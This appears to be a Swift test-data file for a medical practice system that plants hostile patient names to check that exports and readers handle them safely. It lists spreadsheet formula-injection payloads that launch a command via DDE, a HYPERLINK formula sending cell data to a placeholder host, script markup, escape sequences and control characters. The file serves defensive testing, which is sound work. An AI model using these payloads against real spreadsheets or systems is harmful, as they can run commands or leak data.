/// `--hostile`: names as a careless or malicious export writes them, put into one person in twenty, so
/// a run shows that nothing they carry reaches a file name, a message or a spreadsheet formula, and
/// that no reader breaks on them: very long names, control characters and escape sequences, spreadsheet
/// formulas, markup, HL7 delimiters, quotes and commas, right-to-left overrides. The appointment book
/// also gets a practitioner cell now and then that holds a patient's name, date of birth and NHI (a
/// column shifted by an export).
enum HostileValues {
    static let families = [
        "Tipene-" + String(repeating: "Whakaarahia", count: 30),
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Open\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "Ngata\u{1B}[31m\u{07}",
        "Te\u{0}Whata",
        "\u{202E}anipeT",
        "<script>alert(1)</script>",
        "O|Brien^Jr~&\\",
        "Smith\tJones\rKing",
        "O'Neill, \"Junior\"",
    ]

    static let givens = ["=1+2", "Jane\u{0B}Ann", "\u{200B}Aroha", "-Mere", "Tama" + String(repeating: "tea", count: 90)]

    static func apply(to world: inout PracticeWorld) {
        world.hostile = true
        var n = 0
        for index in world.people.indices where index % 20 == 7 {
            world.people[index].family = families[n % families.count]
            if n % 3 == 0 { world.people[index].given = givens[n % givens.count] }
            n += 1
        }
    }

    /// The practitioner cell of the appointment book's `row`-th line: now and then a patient's details.
    static func practitioner(_ code: String, row: Int, person: DrillPerson, world: PracticeWorld) -> String {
        guard world.hostile, row % 40 == 13 else { return code }
        return "\(person.family) \(person.given) \(person.dob) NHI \(person.nhi) " + String(repeating: "seen by the locum on the ward round ", count: 7)
    }
}
